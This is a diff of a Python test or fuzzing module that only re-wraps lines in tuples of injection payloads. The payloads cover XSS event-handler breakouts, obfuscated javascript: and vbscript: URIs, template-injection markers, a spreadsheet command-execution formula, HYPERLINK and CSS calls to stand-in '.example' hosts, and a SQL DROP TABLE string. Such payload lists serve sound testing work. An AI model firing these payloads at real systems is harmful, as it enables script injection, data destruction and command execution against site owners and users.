@@ -25,11 +25,13 @@ AROUND = (
     "</template>{}", "<x<{}", "{{{{ {} }}}}",
 )  # fmt: skip
 ATTRIBUTES = (
-    f'" onmouseover={CALL} x="', f"' onmouseover={CALL} x='", f"` onmouseover={CALL} x=`", f'" autofocus onfocus={CALL} x="',
+    f'" onmouseover={CALL} x="', f"' onmouseover={CALL} x='", f"` onmouseover={CALL} x=`",
+    f'" autofocus onfocus={CALL} x="',
     f'" hx-get=/{MARK} hx-trigger=load x="', f'" style="background:url(//{MARK}.example)" x="', f"x onmouseover={CALL}",
 )  # fmt: skip
 ADDRESSES = (
-    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java&Tab;script:{CALL}", f"java\tscript:{CALL}", f" javascript:{CALL}",
+    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java&Tab;script:{CALL}", f"java\tscript:{CALL}",
+    f" javascript:{CALL}",
     f"&#106;avascript:{CALL}", f"data:text/html,<script>{CALL}</script>", f"vbscript:{CALL}", f"//{MARK}.example",
 )  # fmt: skip
 MARKDOWN = (
@@ -37,7 +39,8 @@ MARKDOWN = (
     "[x]: {}\n[x]",
 )  # fmt: skip
 TEMPLATES = (
-    f"{{{{ {MARK} }}}}", f"{{% set {MARK} %}}", f"${{{MARK}}}", f"#{{{MARK}}}", f"<%= {MARK} %>", f"=cmd|'/c {MARK}'!A1",
+    f"{{{{ {MARK} }}}}", f"{{% set {MARK} %}}", f"${{{MARK}}}", f"#{{{MARK}}}", f"<%= {MARK} %>",
+    f"=cmd|'/c {MARK}'!A1",
     f"+{MARK}", f"-{MARK}", f"@{MARK}", f'=HYPERLINK("https://{MARK}.example")', f"'; DROP TABLE {MARK}; --",
 )  # fmt: skip
 PAYLOADS = tuple(dict.fromkeys((
